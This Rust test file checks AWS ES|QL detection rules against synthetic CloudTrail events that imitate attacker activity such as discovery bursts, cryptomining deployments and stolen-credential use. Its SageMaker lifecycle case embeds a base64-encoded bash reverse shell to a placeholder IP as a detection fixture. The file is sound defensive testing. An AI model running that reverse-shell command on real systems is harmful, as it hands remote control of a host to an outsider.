//! End-to-end tests of Elastic's AWS `esql` rules (read from the corpus at run time; skipped
//! when it is absent) through `compile_rule` and the `Runner`, with hand-written
//! CloudTrail-shaped ECS documents (field names as Elastic's CloudTrail pipeline produces
//! them). Each rule gets a positive case and a near miss that differs in one decisive detail.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use serde_json::{json, Value};
use tripline_doc::{time, Document, Event, Origin, SharedEvent};
use tripline_rules::Rule;

use crate::compile::{compile_rule, CompileContext};
use crate::detector::AlertDraft;
use crate::runner::{Runner, RunnerConfig};

fn corpus_dir() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpus/detection-rules/rules/integrations");
    p.is_dir().then_some(p)
}

fn load(file: &str) -> Option<Arc<Rule>> {
    let path = corpus_dir()?.join("aws").join(file);
    Some(Arc::new(
        Rule::load(&path).unwrap_or_else(|e| panic!("{file}: {e}")),
    ))
}

const BASE: &str = "2024-06-03T10:00:00Z";

/// `BASE + secs`.
fn at(secs: i64) -> String {
    time::format_millis(time::parse_millis(BASE).unwrap_or(0) + secs * 1000)
}

const ACCOUNT: &str = "111111111111";
const ALICE_ARN: &str = "arn:aws:iam::111111111111:user/alice";

/// A successful API call by IAM user alice, as the CloudTrail pipeline normalizes it.
fn call(secs: i64, provider: &str, action: &str) -> Value {
    json!({
        "@timestamp": at(secs),
        "event": {"action": action, "provider": provider, "outcome": "success", "kind": "event", "type": ["info"]},
        "cloud": {"provider": "aws", "region": "us-east-1", "account": {"id": ACCOUNT}},
        "aws": {"cloudtrail": {
            "event_type": "AwsApiCall",
            "user_identity": {"type": "IAMUser", "arn": ALICE_ARN, "access_key_id": "AKIAALICEOLDKEY00001"},
        }},
        "user": {"name": "alice", "id": "AIDAALICE"},
        "source": {"address": "198.51.100.7", "ip": "198.51.100.7", "as": {"number": 64500, "organization": {"name": "Example ISP"}}, "geo": {"country_iso_code": "US", "city_name": "Seattle"}},
        "user_agent": {"original": "aws-cli/2.15.0 Python/3.11.6 Linux/6.1 exe/x86_64", "name": "aws-cli"},
    })
}

/// Sets dotted paths (creating objects) on a document.
fn with(mut doc: Value, sets: &[(&str, Value)]) -> Value {
    if let Value::Object(m) = &mut doc {
        for (k, v) in sets {
            tripline_doc::path::set_map(m, k, v.clone());
        }
    }
    doc
}

fn without(mut doc: Value, path: &str) -> Value {
    if let Value::Object(m) = &mut doc {
        tripline_doc::path::remove_map(m, path);
    }
    doc
}

/// Runs the rule over the documents (event ids assigned in order) and returns its alerts.
fn alerts(rule: &Arc<Rule>, docs: Vec<Value>) -> Vec<AlertDraft> {
    let det = compile_rule(rule, &CompileContext::default())
        .unwrap_or_else(|e| panic!("{}: {e}", rule.path));
    let mut runner = Runner::new(vec![det], RunnerConfig::default());
    let mut out = Vec::new();
    let mut events: Vec<SharedEvent> = docs
        .into_iter()
        .enumerate()
        .map(|(i, d)| {
            let mut doc = Document(d.as_object().cloned().unwrap_or_default());
            if !doc.exists("event.id") {
                doc.set("event.id", json!(format!("evt-{i:05}")));
            }
            let timestamp = doc
                .first("@timestamp")
                .and_then(time::value_to_millis)
                .unwrap_or(0);
            Arc::new(Event {
                doc,
                timestamp,
                origin: Origin {
                    file: "test.ndjson".into(),
                    record: i as u64 + 1,
                    line: None,
                },
                seq: i as u64,
            })
        })
        .collect();
    events.sort_by_key(|e| (e.timestamp, e.seq));
    for e in events {
        runner.push(e, &mut out);
    }
    runner.finish(&mut out);
    out
}

struct Case {
    file: &'static str,
    positive: fn() -> Vec<Value>,
    near_miss: fn() -> Vec<Value>,
    /// Checks on the positive case's first alert (field values the rule computes).
    check: fn(&AlertDraft),
}

fn field<'a>(a: &'a AlertDraft, name: &str) -> &'a Value {
    a.fields
        .as_ref()
        .and_then(|f| f.get(name))
        .unwrap_or(&Value::Null)
}

fn no_check(_: &AlertDraft) {}

// ---- per-rule documents ----

fn discovery_cli(n: usize) -> Vec<Value> {
    let actions = [
        ("ec2.amazonaws.com", "DescribeInstances"),
        ("sts.amazonaws.com", "GetCallerIdentity"),
        ("s3.amazonaws.com", "ListBuckets"),
        ("iam.amazonaws.com", "ListUsers"),
        ("iam.amazonaws.com", "GetAccountSummary"),
        ("lambda.amazonaws.com", "ListFunctions"),
    ];
    actions
        .iter()
        .take(n)
        .enumerate()
        .map(|(i, (p, a))| call(1 + i as i64, p, a))
        .collect()
}

fn s3_posture(buckets: usize) -> Vec<Value> {
    (0..buckets)
        .map(|i| {
            with(
                call(1 + (i as i64 % 8), "s3.amazonaws.com", "GetBucketAcl"),
                &[(
                    "aws.cloudtrail.resources",
                    json!([{"arn": format!("arn:aws:s3:::bucket-{i}"), "type": "AWS::S3::Bucket"}]),
                )],
            )
        })
        .collect()
}

fn service_quotas(regions: usize) -> Vec<Value> {
    let names = [
        "us-east-1",
        "us-east-2",
        "us-west-1",
        "us-west-2",
        "eu-west-1",
        "eu-west-2",
        "eu-central-1",
        "ap-south-1",
        "ap-northeast-1",
        "sa-east-1",
    ];
    (0..10)
        .map(|i| {
            with(
                call(
                    31 + i as i64,
                    "servicequotas.amazonaws.com",
                    "GetServiceQuota",
                ),
                &[
                    ("cloud.region", json!(names[i % regions])),
                    (
                        "aws.cloudtrail.request_parameters",
                        json!("{serviceCode=ec2, quotaCode=L-1216C47A}"),
                    ),
                ],
            )
        })
        .collect()
}

fn ec2_user_data(modify_params: &str) -> Vec<Value> {
    vec![
        with(
            call(10, "ec2.amazonaws.com", "StopInstances"),
            &[(
                "aws.cloudtrail.request_parameters",
                json!("{instancesSet={items=[{instanceId=i-0abc123def4567890}]}, force=false}"),
            )],
        ),
        with(
            call(40, "ec2.amazonaws.com", "ModifyInstanceAttribute"),
            &[("aws.cloudtrail.request_parameters", json!(modify_params))],
        ),
        with(
            call(70, "ec2.amazonaws.com", "StartInstances"),
            &[(
                "aws.cloudtrail.request_parameters",
                json!("{instancesSet={items=[{instanceId=i-0abc123def4567890}]}}"),
            )],
        ),
    ]
}

fn lambda_invoke(secs: i64, function_account: &str) -> Value {
    with(
        call(secs, "lambda.amazonaws.com", "Invoke"),
        &[
            ("aws.cloudtrail.event_category", json!("Data")),
            ("aws.cloudtrail.request_parameters", json!(format!("{{functionName=arn:aws:lambda:us-east-1:{function_account}:function:report, invocationType=RequestResponse}}"))),
            ("aws.cloudtrail.resources", json!([{"arn": format!("arn:aws:lambda:us-east-1:{function_account}:function:report"), "type": "AWS::Lambda::Function"}])),
        ],
    )
}

fn bedrock_invocations(n: usize) -> Vec<Value> {
    (0..n)
        .map(|i| {
            with(
                call(i as i64, "bedrock.amazonaws.com", "InvokeModel"),
                &[("aws.cloudtrail.request_parameters", json!("{modelId=anthropic.claude-3-sonnet-20240229-v1:0, accept=application/json}"))],
            )
        })
        .collect()
}

fn ecr_policy(principal: &str) -> Vec<Value> {
    let text = format!(
        "{{repositoryName=app, policyText={{\"Version\":\"2012-10-17\",\"Statement\":[{{\"Sid\":\"pull\",\"Effect\":\"Allow\",\"Principal\":{principal},\"Action\":[\"ecr:BatchGetImage\"]}}]}}}}"
    );
    vec![with(
        call(5, "ecr.amazonaws.com", "SetRepositoryPolicy"),
        &[("aws.cloudtrail.request_parameters", json!(text))],
    )]
}

fn bedrock_destructive(bearer: &str) -> Vec<Value> {
    vec![with(
        call(5, "bedrock.amazonaws.com", "DeleteGuardrail"),
        &[(
            "aws.cloudtrail.additional_eventdata",
            json!(format!(
                "{{callWithBearerToken={bearer}, inferenceRegion=us-east-1}}"
            )),
        )],
    )]
}

fn ecs_miner(cpu: &str) -> Vec<Value> {
    let register = format!(
        "{{family=web, containerDefinitions=[{{name=worker, image=docker.io/example/worker:latest, cpu={cpu}, essential=true}}], cpu={cpu}, memory=16384, requiresCompatibilities=[FARGATE]}}"
    );
    vec![
        with(
            call(10, "ecs.amazonaws.com", "RegisterTaskDefinition"),
            &[("aws.cloudtrail.request_parameters", json!(register))],
        ),
        with(
            call(60, "ecs.amazonaws.com", "RunTask"),
            &[(
                "aws.cloudtrail.request_parameters",
                json!("{cluster=default, taskDefinition=web:1, count=10}"),
            )],
        ),
    ]
}

fn s3_copy(key_account: &str) -> Vec<Value> {
    let params = format!(
        "{{bucketName=victim-data, x-amz-server-side-encryption-aws-kms-key-id=arn:aws:kms:us-east-1:{key_account}:key/0f3c8a1e-2b7d-4c59-9e6a-5d1b2c3d4e5f, Host=victim-data.s3.us-east-1.amazonaws.com, x-amz-server-side-encryption=aws:kms, x-amz-copy-source=victim-data/reports/q1.csv, key=reports/q1.csv}}"
    );
    vec![with(
        call(5, "s3.amazonaws.com", "CopyObject"),
        &[("aws.cloudtrail.request_parameters", json!(params))],
    )]
}

fn s3_static_js(key: &str) -> Vec<Value> {
    let params =
        format!("{{bucketName=shop-site, Host=shop-site.s3.us-east-1.amazonaws.com, key={key}}}");
    vec![with(
        call(5, "s3.amazonaws.com", "PutObject"),
        &[("aws.cloudtrail.request_parameters", json!(params))],
    )]
}

fn unusual_asn(second_action: &str) -> Vec<Value> {
    let mut v: Vec<Value> = (0..200)
        .map(|i| {
            with(
                call(i * 60, "s3.amazonaws.com", "GetObject"),
                &[("source.as.organization.name", json!("Amazon.com, Inc."))],
            )
        })
        .collect();
    for (i, a) in ["GetCallerIdentity", second_action].iter().enumerate() {
        v.push(with(
            call(200 * 60 + i as i64 * 30, "sts.amazonaws.com", a),
            &[
                ("source.as.organization.name", json!("Evil Hosting LLC")),
                ("source.address", json!("203.0.113.50")),
                ("source.ip", json!("203.0.113.50")),
            ],
        ));
    }
    v
}

fn console_logins(second_country: &str) -> Vec<Value> {
    [("US", 5), (second_country, 600)]
        .iter()
        .map(|(c, s)| {
            with(
                call(*s, "signin.amazonaws.com", "ConsoleLogin"),
                &[
                    ("source.geo.country_iso_code", json!(c)),
                    ("event.category", json!(["authentication"])),
                ],
            )
        })
        .collect()
}

fn github_oidc(second_org: &str) -> Vec<Value> {
    let base = |secs, ua: &str, org: &str| {
        with(
            call(secs, "s3.amazonaws.com", "ListBuckets"),
            &[
                ("aws.cloudtrail.user_identity.type", json!("AssumedRole")),
                (
                    "aws.cloudtrail.user_identity.access_key_id",
                    json!("ASIAGHACTIONS0000001"),
                ),
                ("user.name", json!("github-deploy-role")),
                ("user_agent.original", json!(ua)),
                ("source.as.organization.name", json!(org)),
            ],
        )
    };
    vec![
        base(
            10,
            "aws-sdk-nodejs/2.1 linux/v20 configured-with-aws-credentials-for-github-actions",
            "Microsoft Corporation",
        ),
        base(300, "aws-cli/2.15.0 Python/3.11.6 Linux/6.1", second_org),
    ]
}

fn session_token(second: (&str, &str, &str)) -> Vec<Value> {
    let ev = |secs, provider, action, ip: &str, org: &str, city: &str| {
        with(
            call(secs, provider, action),
            &[
                (
                    "aws.cloudtrail.session_credential_from_console",
                    json!("false"),
                ),
                ("source.ip", json!(ip)),
                ("source.address", json!(ip)),
                ("source.as.organization.name", json!(org)),
                ("source.geo.city_name", json!(city)),
            ],
        )
    };
    vec![
        ev(
            60,
            "s3.amazonaws.com",
            "ListBuckets",
            "198.51.100.7",
            "Example ISP",
            "Seattle",
        ),
        ev(
            120,
            "iam.amazonaws.com",
            "ListUsers",
            second.0,
            second.1,
            second.2,
        ),
    ]
}

fn k8s_web_identity(post_actions: &[&str]) -> Vec<Value> {
    let key = "ASIAK8SPOD0000000001";
    let assume = with(
        call(10, "sts.amazonaws.com", "AssumeRoleWithWebIdentity"),
        &[
            ("aws.cloudtrail.user_identity.type", json!("WebIdentityUser")),
            ("user.name", json!("system:serviceaccount:default:app")),
            ("aws.cloudtrail.response_elements", json!(format!("{{credentials={{accessKeyId={key}, sessionToken=FwoGZXIvYXdzEtoken, expiration=Jun 3, 2024, 11:00:10 AM}}, subjectFromWebIdentityToken=system:serviceaccount:default:app}}"))),
        ],
    );
    // The web identity caller has no access key yet: it receives one in the response.
    let mut v = vec![without(
        assume,
        "aws.cloudtrail.user_identity.access_key_id",
    )];
    for (i, a) in post_actions.iter().enumerate() {
        v.push(with(
            call(60 + i as i64 * 60, "iam.amazonaws.com", a),
            &[
                ("aws.cloudtrail.user_identity.type", json!("AssumedRole")),
                ("aws.cloudtrail.user_identity.access_key_id", json!(key)),
                (
                    "aws.cloudtrail.user_identity.arn",
                    json!("arn:aws:sts::111111111111:assumed-role/eks-app/pod-session"),
                ),
                ("user.name", json!("eks-app")),
            ],
        ));
    }
    v
}

fn created_key_for(target: &str) -> Vec<Value> {
    vec![with(
        call(5, "iam.amazonaws.com", "CreateAccessKey"),
        &[
            ("user.name", json!("admin")),
            ("user.target.name", json!(target)),
            ("data_stream.dataset", json!("aws.cloudtrail")),
        ],
    )]
}

fn self_created_key(used_key: &str) -> Vec<Value> {
    vec![
        with(
            call(30, "iam.amazonaws.com", "CreateAccessKey"),
            &[
                ("user.target.name", json!("alice")),
                ("aws.cloudtrail.response_elements", json!("{accessKey={accessKeyId=AKIAALICENEWKEY12345, status=Active, userName=alice, createDate=Jun 3, 2024, 10:00:30 AM}}")),
            ],
        ),
        with(call(630, "s3.amazonaws.com", "ListBuckets"), &[("aws.cloudtrail.user_identity.access_key_id", json!(used_key))]),
    ]
}

fn lifecycle_config(b64: &str) -> Vec<Value> {
    vec![with(
        call(
            5,
            "sagemaker.amazonaws.com",
            "CreateNotebookInstanceLifecycleConfig",
        ),
        &[(
            "aws.cloudtrail.request_parameters",
            json!(format!(
                "{{notebookInstanceLifecycleConfigName=nb-setup, onStart=[{{content={b64}}}]}}"
            )),
        )],
    )]
}

fn phantom_user(target: &str) -> Vec<Value> {
    vec![with(
        call(5, "iam.amazonaws.com", "CreateLoginProfile"),
        &[("user.target.name", json!(target))],
    )]
}

fn sagemaker_role(params: &str) -> Vec<Value> {
    vec![with(
        call(5, "sagemaker.amazonaws.com", "CreateTrainingJob"),
        &[
            ("aws.cloudtrail.user_identity.type", json!("AssumedRole")),
            (
                "aws.cloudtrail.user_identity.arn",
                json!("arn:aws:sts::111111111111:assumed-role/DataSci/alice"),
            ),
            (
                "aws.cloudtrail.user_identity.session_context.session_issuer.arn",
                json!("arn:aws:iam::111111111111:role/DataSci"),
            ),
            ("aws.cloudtrail.request_parameters", json!(params)),
        ],
    )]
}

const CASES: &[Case] = &[
    Case {
        file: "discovery_multiple_discovery_api_calls_via_cli.toml",
        positive: || discovery_cli(6),
        near_miss: || discovery_cli(5),
        check: |a| assert_eq!(field(a, "Esql.event_action_count_distinct"), &json!(6)),
    },
    Case {
        file: "discovery_s3_rapid_bucket_posture_api_calls.toml",
        positive: || s3_posture(16),
        near_miss: || s3_posture(15),
        check: |a| {
            assert_eq!(
                field(a, "Esql.aws_cloudtrail_resources_arn_count_distinct"),
                &json!(16)
            )
        },
    },
    Case {
        file: "discovery_servicequotas_multi_region_service_quota_requests.toml",
        positive: || service_quotas(10),
        near_miss: || service_quotas(9),
        check: |a| {
            assert_eq!(field(a, "Esql.cloud_region_count_distinct"), &json!(10));
            assert_eq!(
                field(a, "Esql.time_window_date_trunc"),
                &json!("2024-06-03T10:00:30.000Z")
            );
        },
    },
    Case {
        file: "execution_ec2_stop_start_with_user_data_modification.toml",
        positive: || {
            ec2_user_data("{instanceId=i-0abc123def4567890, userData=<sensitiveDataRemoved>}")
        },
        near_miss: || {
            ec2_user_data("{instanceId=i-0abc123def4567890, instanceType={value=t3.large}}")
        },
        check: |a| assert_eq!(field(a, "Esql.instance_id"), &json!("i-0abc123def4567890")),
    },
    Case {
        file: "execution_lambda_function_invoked_cross_account.toml",
        positive: || vec![lambda_invoke(5, "222222222222")],
        near_miss: || vec![lambda_invoke(5, ACCOUNT)],
        check: |a| {
            assert_eq!(field(a, "Esql.caller_account"), &json!(ACCOUNT));
            assert_eq!(field(a, "Esql.function_account"), &json!("222222222222"));
        },
    },
    Case {
        file: "exfiltration_bedrock_high_frequency_inference_api_probing.toml",
        positive: || bedrock_invocations(500),
        near_miss: || bedrock_invocations(499),
        check: |a| {
            assert_eq!(
                field(a, "Esql.model_id"),
                &json!("anthropic.claude-3-sonnet-20240229-v1:0")
            )
        },
    },
    Case {
        file: "exfiltration_ecr_repository_policy_granted_public_access.toml",
        positive: || ecr_policy("\"*\""),
        near_miss: || ecr_policy("{\"AWS\":\"arn:aws:iam::333333333333:root\"}"),
        check: no_check,
    },
    Case {
        file: "impact_bedrock_api_key_destructive_action.toml",
        positive: || bedrock_destructive("true"),
        near_miss: || bedrock_destructive("false"),
        check: no_check,
    },
    Case {
        file: "impact_ecs_cryptomining_task_definition_deployment.toml",
        positive: || ecs_miner("8192"),
        near_miss: || ecs_miner("1024"),
        check: |a| assert_eq!(field(a, "Esql.miner_register_sum"), &json!(1)),
    },
    Case {
        file: "impact_lambda_high_frequency_invocation.toml",
        positive: || (0..1000).map(|i| lambda_invoke(i * 3, ACCOUNT)).collect(),
        near_miss: || (0..999).map(|i| lambda_invoke(i * 3, ACCOUNT)).collect(),
        check: |a| assert_eq!(field(a, "Esql.invocation_count"), &json!(1000)),
    },
    Case {
        file: "impact_s3_object_encryption_with_external_key.toml",
        positive: || s3_copy("999999999999"),
        near_miss: || s3_copy(ACCOUNT),
        check: |a| {
            assert_eq!(
                field(
                    a,
                    "Esql.aws_cloudtrail_request_parameters_kms_key_account_id"
                ),
                &json!("999999999999")
            );
            assert_eq!(
                field(
                    a,
                    "Esql.aws_cloudtrail_request_parameters_target_object_key"
                ),
                &json!("reports/q1.csv")
            );
        },
    },
    Case {
        file: "impact_s3_static_site_js_file_uploaded.toml",
        positive: || s3_static_js("assets/static/js/main.4f2a9c.js"),
        near_miss: || s3_static_js("assets/static/js/main.4f2a9c.js.map"),
        check: |a| {
            assert_eq!(
                field(a, "Esql.aws_cloudtrail_request_parameters_object_key"),
                &json!("main.4f2a9c.js")
            )
        },
    },
    Case {
        file: "initial_access_aws_api_unusual_asn.toml",
        positive: || unusual_asn("ListBuckets"),
        near_miss: || unusual_asn("GetCallerIdentity"),
        check: |a| {
            assert_eq!(field(a, "Esql.untrusted_event_count"), &json!(2));
            assert_eq!(field(a, "Esql.unique_action_from_untrusted_asn"), &json!(2));
        },
    },
    Case {
        file: "initial_access_console_login_iam_user_multiple_geolocations.toml",
        positive: || console_logins("DE"),
        near_miss: || console_logins("US"),
        check: |a| {
            assert_eq!(
                field(a, "Esql.source_geo_country_iso_code_values"),
                &json!(["DE", "US"])
            )
        },
    },
    Case {
        file: "initial_access_github_actions_oidc_credentials_used_from_suspicious_network.toml",
        positive: || github_oidc("Evil Hosting LLC"),
        near_miss: || github_oidc("Amazon.com, Inc."),
        check: |a| assert_eq!(field(a, "Esql.is_github_aws_key"), &json!(1)),
    },
    Case {
        // The rule requires `aws.cloudtrail.session_credential_from_console` to exist and not be
        // "true" (`not x == "true"` is null for a missing field); CloudTrail only ever writes
        // "true", so the documents carry "false" to exercise the rest of the logic.
        file: "initial_access_iam_session_token_used_from_multiple_addresses.toml",
        positive: || session_token(("203.0.113.9", "Other Net", "Tokyo")),
        near_miss: || session_token(("198.51.100.8", "Example ISP", "Seattle")),
        check: |a| {
            assert_eq!(
                field(a, "Esql.activity_type"),
                &json!("multiple_ip_network_city")
            )
        },
    },
    Case {
        file: "lateral_movement_k8_assumed_web_identity_session_with_multi_phase_api_use.toml",
        positive: || k8s_web_identity(&["ListRoles", "CreateAccessKey"]),
        near_miss: || k8s_web_identity(&["ListRoles"]),
        check: |a| {
            assert_eq!(
                field(a, "aws.cloudtrail.user_identity.access_key_id"),
                &json!("ASIAK8SPOD0000000001")
            );
            assert_eq!(field(a, "Esql.post_exploit_count"), &json!(3));
        },
    },
    Case {
        file: "persistence_iam_user_created_access_keys_for_another_user.toml",
        positive: || created_key_for("bob"),
        near_miss: || created_key_for("admin"),
        check: |a| assert_eq!(a.events.len(), 1),
    },
    Case {
        file: "persistence_iam_user_self_created_access_key_subsequently_used.toml",
        positive: || self_created_key("AKIAALICENEWKEY12345"),
        near_miss: || self_created_key("AKIAALICEOTHERKEY999"),
        check: |a| {
            assert_eq!(
                field(a, "Esql_priv.aws_cloudtrail_access_key_id_correlation"),
                &json!("AKIAALICENEWKEY12345")
            )
        },
    },
    Case {
        file: "persistence_sagemaker_lifecycle_config_suspicious_script_content.toml",
        positive: || {
            lifecycle_config(
                "IyEvYmluL2Jhc2gKYmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQ0IDA+JjEK",
            )
        },
        near_miss: || lifecycle_config("IyEvYmluL2Jhc2gKcGlwIGluc3RhbGwgcGFuZGFzCg=="),
        check: |a| {
            assert!(field(a, "Esql_priv.aws_cloudtrail_lifecycle_script")
                .as_str()
                .is_some_and(|s| s.contains("/dev/tcp/")))
        },
    },
    Case {
        file: "privilege_escalation_bedrock_phantom_user_credentials_added.toml",
        positive: || phantom_user("BedrockAPIKey-x7k2"),
        near_miss: || phantom_user("svc-deploy"),
        check: |a| assert_eq!(field(a, "user.target.name"), &json!("BedrockAPIKey-x7k2")),
    },
    Case {
        file: "privilege_escalation_sagemaker_execution_role_passed_by_unusual_principal.toml",
        positive: || {
            sagemaker_role("{trainingJobName=churn-model, roleArn=arn:aws:iam::111111111111:role/SageMakerExec, enableNetworkIsolation=false}")
        },
        near_miss: || sagemaker_role("{trainingJobName=churn-model, enableNetworkIsolation=false}"),
        check: |a| {
            assert_eq!(
                field(a, "Esql.principal_arn"),
                &json!("arn:aws:iam::111111111111:role/DataSci")
            );
            assert_eq!(
                field(a, "Esql.aws_cloudtrail_request_parameters_role_arn"),
                &json!("arn:aws:iam::111111111111:role/SageMakerExec")
            );
        },
    },
];

#[test]
fn aws_esql_rules_fire_on_positives_and_not_on_near_misses() {
    if corpus_dir().is_none() {
        eprintln!("corpus absent: skipped");
        return;
    }
    let mut failures = Vec::new();
    for c in CASES {
        let Some(rule) = load(c.file) else { continue };
        let pos = alerts(&rule, (c.positive)());
        if pos.len() != 1 {
            failures.push(format!(
                "{}: positive produced {} alerts (expected 1)",
                c.file,
                pos.len()
            ));
        } else {
            let a = &pos[0];
            assert!(
                a.fields.as_ref().is_some_and(|f| !f.is_empty()),
                "{}: alert without fields",
                c.file
            );
            assert!(a.key.is_some(), "{}", c.file);
            if let Err(e) = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| (c.check)(a)))
            {
                let msg = e.downcast_ref::<String>().cloned().unwrap_or_default();
                failures.push(format!(
                    "{}: check failed: {msg}\nfields: {:?}",
                    c.file, a.fields
                ));
            }
        }
        let neg = alerts(&rule, (c.near_miss)());
        if !neg.is_empty() {
            failures.push(format!(
                "{}: near miss produced {} alerts: {:?}",
                c.file,
                neg.len(),
                neg[0].fields
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn every_aws_esql_rule_has_an_end_to_end_case_or_a_documented_reason() {
    let Some(dir) = corpus_dir() else { return };
    let mut files: Vec<String> = std::fs::read_dir(dir.join("aws"))
        .into_iter()
        .flatten()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|f| f.ends_with(".toml"))
        .collect();
    files.sort();
    let mut esql = 0;
    for f in files {
        let Some(rule) = load(&f) else { continue };
        if rule.rule_type != tripline_rules::RuleType::Esql {
            continue;
        }
        esql += 1;
        if CASES.iter().any(|c| c.file == f) {
            continue;
        }
        // The only AWS esql rule without a case here queries other rules' alerts: it needs
        // the alert documents of `tripline-alerts`, so its end-to-end test is the integration
        // test `tests/esql_alerts.rs`.
        match compile_rule(&rule, &CompileContext::default()) {
            Ok(d) if d.reads_alerts() => {}
            other => panic!(
                "{f}: no end-to-end case and no documented reason ({:?})",
                other.err()
            ),
        }
    }
    assert!(esql >= 23, "found {esql} AWS esql rules");
}

/// Every `esql` rule under `rules/integrations/` compiles: other integrations' rules select
/// their documents by dataset, alert-reading rules read Tripline's alerts.
#[test]
fn every_integration_esql_rule_compiles() {
    let Some(dir) = corpus_dir() else { return };
    let mut paths = Vec::new();
    fn walk(d: &Path, out: &mut Vec<PathBuf>) {
        for e in std::fs::read_dir(d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                walk(&p, out);
            } else if p.extension().is_some_and(|x| x == "toml") {
                out.push(p);
            }
        }
    }
    walk(&dir, &mut paths);
    paths.sort();
    // integration → (esql rules, compiled)
    let mut per: std::collections::BTreeMap<String, (usize, usize)> = Default::default();
    let mut failures = Vec::new();
    for p in paths {
        let Ok(rule) = Rule::load(&p) else { continue };
        if rule.rule_type != tripline_rules::RuleType::Esql {
            continue;
        }
        let integration = p
            .strip_prefix(&dir)
            .ok()
            .and_then(|r| r.components().next())
            .map(|c| c.as_os_str().to_string_lossy().into_owned())
            .unwrap_or_default();
        let e = per.entry(integration).or_default();
        e.0 += 1;
        match compile_rule(&Arc::new(rule), &CompileContext::default()) {
            Ok(_) => e.1 += 1,
            Err(err) => failures.push(format!("{}: {err}", p.display())),
        }
    }
    let total: usize = per.values().map(|v| v.0).sum();
    let ok: usize = per.values().map(|v| v.1).sum();
    for (k, (n, c)) in &per {
        eprintln!("{k}: {c}/{n} esql rules compile");
    }
    eprintln!("{total} integration esql rules: {ok} compile");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(total >= 88, "{total}");
}
